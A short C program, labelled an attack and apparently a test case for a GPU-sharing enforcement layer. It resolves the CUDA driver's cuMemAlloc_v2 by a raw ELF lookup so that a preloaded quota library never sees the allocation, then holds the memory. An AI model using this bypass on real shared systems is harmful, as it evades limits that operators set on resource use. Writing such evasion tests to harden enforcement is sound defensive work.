/* Attack: allocate through the driver's own cuMemAlloc_v2, found by a raw ELF lookup in
 * libcuda.so.1 (no dlsym, no cuGetProcAddress), so no preloaded library sees the call.
 * Usage: rawelf <bytes> [hold_ms]. Prints "alloc <bytes> rc=<CUresult>" then "holding". */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <cuda.h>
#include "elf_lookup.h"

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    unsigned long long bytes = strtoull(argv[1], NULL, 10);
    long hold_ms = argc > 2 ? atol(argv[2]) : 600000;
    CUcontext ctx;
    /* Set-up through the ordinary entry points, as the application would. */
    if (cuInit(0) != CUDA_SUCCESS || cuDevicePrimaryCtxRetain(&ctx, 0) != CUDA_SUCCESS || cuCtxSetCurrent(ctx) != CUDA_SUCCESS) {
        printf("setup failed\n");
        return 1;
    }
    CUresult (*raw_alloc)(CUdeviceptr *, size_t) = (CUresult (*)(CUdeviceptr *, size_t))elf_lookup("libcuda.so", "cuMemAlloc_v2");
    if (!raw_alloc) {
        printf("lookup failed\n");
        return 1;
    }
    CUdeviceptr p;
    printf("alloc %llu rc=%d\n", bytes, (int)raw_alloc(&p, (size_t)bytes));
    printf("holding\n");
    fflush(stdout);
    usleep((useconds_t)(hold_ms * 1000));
    return 0;
}
